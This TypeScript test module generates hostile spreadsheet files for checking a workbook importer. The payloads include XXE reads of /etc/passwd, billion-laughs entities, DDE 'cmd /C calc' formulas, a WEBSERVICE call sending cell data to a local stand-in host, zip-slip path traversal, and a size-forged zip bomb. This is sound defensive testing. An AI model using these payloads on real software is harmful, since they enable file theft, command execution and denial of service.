/**
 * Workbooks as somebody makes them who wants to harm, and as broken programs leave them: each is one idea, small as a file, and
 * huge, false or dangerous when it is believed. Made here, so that every clone tries them.
 */
import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import yazl from 'yazl';
import { compoundFile, oldBook } from './old-workbook.js';

export interface HostileFile {
  readonly name: string;
  readonly bytes: Buffer;
}

type Parts = Readonly<Record<string, string | (() => Readable)>>;

const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const packaged = 'http://schemas.openxmlformats.org/package/2006';

const relations = (...all: readonly (readonly [id: string, kind: string, target: string, mode?: string])[]): string =>
  `${head}<Relationships xmlns="${packaged}/relationships">${all
    .map(
      ([id, kind, target, mode]) =>
        `<Relationship Id="${id}" Type="${office}/${kind}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`,
    )
    .join('')}</Relationships>`;

const types = [
  head,
  `<Types xmlns="${packaged}/content-types">`,
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
  '<Default Extension="xml" ContentType="application/xml"/>',
  '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
  '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>',
  '</Types>',
].join('');

const text = (ref: string, value: string): string => `<c r="${ref}" t="inlineStr"><is><t>${value}</t></is></c>`;
const row = (at: number, ...cells: readonly string[]): string => `<row r="${at}">${cells.join('')}</row>`;
/** What an import of materials looks for. */
const titles = row(1, text('A1', 'itemCode'), text('B1', 'itemName'), text('C1', 'itemType'), text('D1', 'taxRate'));
const sheet = (rows: string, before = '', after = ''): string =>
  `${head}<worksheet xmlns="${main}" xmlns:r="${office}">${before}<sheetData>${rows}</sheetData>${after}</worksheet>`;
const book = (sheets: string): string => `${head}<workbook xmlns="${main}" xmlns:r="${office}"><sheets>${sheets}</sheets></workbook>`;

/** A workbook of one sheet, with parts replaced or added. */
const parts = (rows: string, more: Parts = {}): Parts => ({
  '[Content_Types].xml': types,
  '_rels/.rels': relations(['rId1', 'officeDocument', 'xl/workbook.xml']),
  'xl/workbook.xml': book('<sheet name="Sheet1" sheetId="1" r:id="rId1"/>'),
  'xl/_rels/workbook.xml.rels': relations(['rId1', 'worksheet', 'worksheets/sheet1.xml']),
  'xl/worksheets/sheet1.xml': sheet(rows),
  ...more,
});

async function zipped(all: Parts): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  for (const [name, content] of Object.entries(all)) {
    if (typeof content === 'string') zip.addBuffer(Buffer.from(content), name);
    else zip.addReadStream(content(), name);
  }
  zip.end();
  return buffer(zip.outputStream);
}

/** The same piece again and again, never whole in memory. */
const again = (first: string, piece: string, times: number, last: string) => (): Readable =>
  Readable.from(
    (function* () {
      yield first;
      const many = piece.repeat(1_000);
      for (let left = times; left > 0; left -= 1_000) yield many;
      yield last;
    })(),
  );

const [open, close] = sheet('\0').split('\0') as [string, string];

/** Bytes of a zip in which something else stands than its writer would put there; both of the same length. */
function forged(zip: Buffer, from: Buffer | string, to: Buffer | string): Buffer {
  const [found, wanted] = [Buffer.from(from), Buffer.from(to)];
  if (found.length !== wanted.length || !zip.includes(found)) throw new Error('nothing to forge');
  const bytes = Buffer.from(zip);
  for (let at = bytes.indexOf(found); at !== -1; at = bytes.indexOf(found, at + 1)) wanted.copy(bytes, at);
  return bytes;
}

/** Every part says that it is one byte long when unpacked. */
function belittled(zip: Buffer): Buffer {
  const bytes = Buffer.from(zip);
  const entry = Buffer.from('PK\x01\x02', 'latin1');
  for (let at = bytes.indexOf(entry); at !== -1; at = bytes.indexOf(entry, at + 1)) bytes.writeUInt32LE(1, at + 24);
  return bytes;
}

const sound = titles + row(2, text('A2', 'H-0001'), text('B2', 'Bearing'), text('C2', 'PART'), '<c r="D2"><v>13</v></c>');
const MILLION = 1_048_576;
const laughs = Array.from({ length: 9 }, (_none, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`).join('');
const nested = (depth: number): string => `${'<x>'.repeat(depth)}${'</x>'.repeat(depth)}`;

const manyStyles = [
  `<numFmts count="9">${'<numFmt numFmtId="200" formatCode="[$-804]yyyy"/>'.repeat(60_000)}</numFmts>`,
  `<cellXfs>${'<xf numFmtId="200"/>'.repeat(60_000)}</cellXfs>`,
].join('');

const contents: Readonly<Record<string, Parts>> = {
  'sound.xlsx': parts(sound),
  'a-cell-of-80-megabytes.xlsx': parts('', {
    'xl/worksheets/sheet1.xml': again(
      `${open}<row r="1"><c r="A1" t="inlineStr"><is><t>`,
      'A'.repeat(200),
      400_000,
      `</t></is></c></row>${close}`,
    ),
  }),
  'two-million-rows.xlsx': parts('', { 'xl/worksheets/sheet1.xml': again(open + titles, '<row/>', 2_000_000, close) }),
  'a-million-rows-claimed.xlsx': parts('', {
    'xl/worksheets/sheet1.xml': sheet(titles + row(MILLION, text(`XFD${MILLION}`, 'far away')), `<dimension ref="A1:XFD${MILLION}"/>`),
  }),
  'a-row-far-beyond.xlsx': parts(titles + row(4_294_967_295, text('ZZZZZZ4294967295', 'nowhere')) + row(-7, text('A-7', 'before'))),
  'external-links.xlsx': parts(titles + row(2, '<c r="A2"><f>[1]Prices!A1</f><v>7</v></c>', text('B2', 'http://127.0.0.1:9/b')), {
    'xl/_rels/workbook.xml.rels': relations(
      ['rId1', 'worksheet', 'worksheets/sheet1.xml'],
      ['rId2', 'externalLink', 'externalLinks/externalLink1.xml'],
      ['rId3', 'worksheet', 'http://127.0.0.1:9/sheet.xml', 'External'],
    ),
    'xl/worksheets/_rels/sheet1.xml.rels': relations(
      ['rId1', 'hyperlink', 'http://127.0.0.1:9/', 'External'],
      ['rId2', 'image', 'http://127.0.0.1:9/dot.png', 'External'],
    ),
    'xl/externalLinks/externalLink1.xml': `${head}<externalLink xmlns="${main}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>`,
    'xl/externalLinks/_rels/externalLink1.xml.rels': relations(['rId1', 'externalLinkPath', 'file:///etc/passwd', 'External']),
  }),
  'a-sheet-that-is-elsewhere.xlsx': parts('', {
    'xl/_rels/workbook.xml.rels': relations(
      ['rId1', 'worksheet', '../../../../etc/passwd'],
      ['rId2', 'worksheet', 'file:///etc/passwd', 'External'],
    ),
  }),
  'formulas.xlsx': parts(
    titles +
      row(
        2,
        '<c r="A2"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;B2)</f></c>',
        `<c r="B2" t="str"><f>cmd|' /C calc'!A0</f><v>=cmd|' /C calc'!A0</v></c>`,
        '<c r="C2"><f t="array" ref="A1:XFD1048576">ROW(A1:XFD1048576)</f><v>1</v></c>',
        '<c r="D2" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
      ) +
      row(3, text('A3', '+1+1'), text('B3', '@SUM(A1)'), text('C3', '-1'), `<c r="D3"><f>${'('.repeat(8_000)}</f><v>0</v></c>`),
  ),
  'wrong-types.xlsx': parts(
    titles +
      row(
        2,
        '<c r="A2" t="n"><v>thirteen</v></c>',
        '<c r="B2" t="s"><v>99999999</v></c>',
        '<c r="C2" t="b"><v>7</v></c>',
        '<c r="D2" t="zz"><v>1</v></c>',
      ) +
      row(
        3,
        '<c r="A3"><v>1e999</v></c>',
        '<c r="B3"><v>NaN</v></c>',
        '<c r="C3" t="d"><v>2026-13-45</v></c>',
        '<c r="D3" s="4294967295"><v>-1</v></c>',
      ) +
      row(4, '<c><v>1</v></c>', '<c r=""><v>2</v></c>', '<c r="1A"><v>3</v></c>', '<c r="A1"><v>4</v></c>'),
  ),
  'nested-sheets.xlsx': parts('', {
    'xl/workbook.xml': book('<sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Sheet1" sheetId="1" r:id="rId2"/>'),
    'xl/_rels/workbook.xml.rels': relations(['rId1', 'worksheet', 'workbook.xml'], ['rId2', 'worksheet', 'worksheets/sheet1.xml']),
    'xl/worksheets/sheet1.xml': sheet(titles + sheet(sound).slice(head.length)),
  }),
  'elements-within-elements.xlsx': parts(`${titles}${nested(200_000)}`),
  'ten-thousand-sheets.xlsx': parts('', {
    'xl/workbook.xml': book(
      Array.from({ length: 10_000 }, (_none, at) => `<sheet name="S${at}" sheetId="${at + 1}" r:id="rId1"/>`).join(''),
    ),
    'xl/worksheets/sheet1.xml': sheet(sound),
  }),
  'all-columns.xlsx': parts(row(1, ...Array.from({ length: 16_384 }, () => '<c t="inlineStr"><is><t>itemCode</t></is></c>'))),
  'a-title-without-end.xlsx': parts(row(1, text('A1', 'itemCode '.repeat(100_000)))),
  'nul.xlsx': parts(titles + row(2, text('A2', 'A\0B'), text('B2', '&#0;&#x1F;&#xD800;'), text('C2', '\u202eTRAP\u200b'))),
  'no-text-at-all.xlsx': parts('', { 'xl/worksheets/sheet1.xml': '\0'.repeat(100_000) }),
  'entities.xlsx': parts('', {
    'xl/worksheets/sheet1.xml': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">${laughs}<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://127.0.0.1:9/p">%p;]>${sheet(row(1, text('A1', '&l9;'), text('B1', '&f;'))).slice(head.length)}`,
  }),
  'shared-texts-claimed.xlsx': parts(titles + row(2, '<c r="A2" t="s"><v>0</v></c>', '<c r="B2" t="s"><v>4294967295</v></c>'), {
    'xl/sharedStrings.xml': `${head}<sst xmlns="${main}" count="4294967295" uniqueCount="4294967295"><si><t>H-0002</t></si></sst>`,
    'xl/_rels/workbook.xml.rels': relations(['rId1', 'worksheet', 'worksheets/sheet1.xml'], ['rId2', 'sharedStrings', 'sharedStrings.xml']),
  }),
  'styles-without-end.xlsx': parts(sound, {
    'xl/styles.xml': `${head}<styleSheet xmlns="${main}">${manyStyles}</styleSheet>`,
    'xl/_rels/workbook.xml.rels': relations(['rId1', 'worksheet', 'worksheets/sheet1.xml'], ['rId2', 'styles', 'styles.xml']),
  }),
  'merged-everywhere.xlsx': parts('', {
    'xl/worksheets/sheet1.xml': sheet(sound, '', `<mergeCells>${`<mergeCell ref="A1:XFD${MILLION}"/>`.repeat(10_000)}</mergeCells>`),
  }),
  'with-macros.xlsm': parts(sound, { 'xl/vbaProject.bin': 'Attribute VB_Name = "AutoOpen"' }),
  'with-macros.xlsx': parts(sound, { 'xl/vbaProject.bin': 'Attribute VB_Name = "AutoOpen"' }),
  'torn-xml.xlsx': parts('', { 'xl/worksheets/sheet1.xml': sheet(sound).slice(0, -40) }),
  'without-sheets.xlsx': parts('', { 'xl/workbook.xml': book('') }),
  'without-a-workbook.xlsx': { '[Content_Types].xml': types, 'readme.txt': 'nothing' },
  'a-way-out.xlsx': parts(sound, { 'aa/aa/aa/aa/tmp/guildhall-hostile': 'here' }),
};

/** All of them, made anew. */
export async function hostileWorkbooks(): Promise<readonly HostileFile[]> {
  const made = new Map<string, Buffer>();
  for (const [name, content] of Object.entries(contents)) made.set(name, await zipped(content));
  const whole = made.get('sound.xlsx')!;
  made.set('a-way-out.xlsx', forged(made.get('a-way-out.xlsx')!, 'aa/aa/aa/aa/tmp', '../../../../tmp'));
  made.set('a-bomb-that-belittles-itself.xlsx', belittled(made.get('a-cell-of-80-megabytes.xlsx')!));
  made.set('torn.xlsx', whole.subarray(0, whole.length / 2));
  made.set('empty.xlsx', Buffer.alloc(0));
  made.set('a-text.xlsx', Buffer.from('itemCode,itemName\nH-1,Bearing\n'));
  made.set('behind-other-bytes.xlsx', Buffer.concat([Buffer.alloc(70_000, 'x'), whole]));
  made.set('encrypted.xlsx', compoundFile('EncryptedPackage', Buffer.alloc(6_000, 7)));
  made.set('garbage.xls', compoundFile('Workbook', Buffer.alloc(6_000, 0xff)));
  made.set('old-without-end.xls', compoundFile('Workbook', oldBook([], [{ name: 'Sheet1', cells: [] }]).subarray(0, 60)));
  return [...made].map(([name, bytes]) => ({ name, bytes }));
}
